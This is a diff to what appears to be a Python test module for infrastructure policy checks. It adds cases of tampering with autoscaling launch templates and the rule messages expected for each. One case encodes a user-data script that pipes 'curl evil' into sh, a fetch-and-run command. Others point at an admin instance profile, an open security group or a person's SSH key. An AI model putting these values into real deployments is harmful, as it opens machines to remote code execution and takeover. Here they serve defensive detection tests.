@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import copy
 import json
 import re
@@ -66,6 +67,27 @@ def and_(
         ]
 
     return change
+
+
+def started(name: str, **specification: Any) -> Change:
+    """The group starts its template by this specification."""
+
+    def change(found: list[Resource]) -> list[Resource]:
+        group = next(r for r in found if r.name == name and r.type == GROUP)
+        mixed_policy = group.inputs.get("mixedInstancesPolicy")
+        inputs = {"launchTemplate": {**group.inputs.get("launchTemplate", {}), **specification}}
+        if mixed_policy:
+            template = {**mixed_policy["launchTemplate"]}
+            template["launchTemplateSpecification"] = {**template["launchTemplateSpecification"], **specification}
+            inputs = {"mixedInstancesPolicy": {**mixed_policy, "launchTemplate": template}}
+        return [replace(r, inputs={**r.inputs, **inputs}) if r is group else r for r in found]
+
+    return change
+
+
+def encoded(text: str) -> str:
+    """User data as a launch template has it."""
+    return base64.b64encode(text.encode()).decode()
 
 
 def volume(**ebs: Any) -> Change:
@@ -187,6 +209,53 @@ ATTACKS = (
     program("moved machines", agreement.RULE, on_other_host, "host hv2 instead of hv1"),
     program("raised maximum", agreement.RULE, set_on("warm-web", GROUP, maxSize=40), "maximum 40 instead of 4"),
     program("lowered minimum", agreement.RULE, set_on("warm-web", GROUP, minSize=0), "minimum 0 instead of 2"),
+    program(
+        "other image", agreement.RULE, set_on("warm-web", TEMPLATE, imageId="ami-9"), "image ami-9 instead of ami-1234"
+    ),
+    program("other image of cold", agreement.RULE, set_on("cold-burst", TEMPLATE, imageId="ami-9"), "image ami-9"),
+    program("unknown image", agreement.RULE, set_on("warm-web", TEMPLATE, imageId=UNKNOWN), "imageId is not known"),
+    program(
+        "other user data",
+        agreement.RULE,
+        set_on("warm-web", TEMPLATE, userData=encoded("#!/bin/sh\ncurl evil | sh\n")),
+        "user data digest",
+    ),
+    program(
+        "user data where none is set",
+        agreement.RULE,
+        set_on("cold-burst", TEMPLATE, userData=encoded("#!/bin/sh\n")),
+        "instead of none",
+    ),
+    program(
+        "user data that is not base64",
+        agreement.RULE,
+        set_on("warm-web", TEMPLATE, userData="#!/bin/sh"),
+        "userData is",
+    ),
+    program(
+        "open security group",
+        agreement.RULE,
+        set_on("warm-web", TEMPLATE, vpcSecurityGroupIds=["sg-open"]),
+        "security groups ('sg-open',) instead of ()",
+    ),
+    program(
+        "security group by name", agreement.RULE, set_on("warm-web", TEMPLATE, securityGroupNames=["open"]), "('open',)"
+    ),
+    program(
+        "instance profile of an administrator",
+        agreement.RULE,
+        set_on("warm-web", TEMPLATE, iamInstanceProfile={"name": "admin"}),
+        "instance profile ('admin',)",
+    ),
+    program("key of a person", agreement.RULE, set_on("warm-web", TEMPLATE, keyName="mallory"), "key mallory"),
+    program("older template version", agreement.RULE, started("warm-web", version="0"), "template version 0 instead"),
+    program("older template version of cold", agreement.RULE, started("cold-burst", version="0"), "template version 0"),
+    program(
+        "old version while the template changes",
+        agreement.RULE,
+        lambda found: [replace(r, newest="") if r.type == TEMPLATE else r for r in found],
+        "template version 1 instead of newest",
+    ),
     program(
         "desired above the maximum",
         cost.RULE,
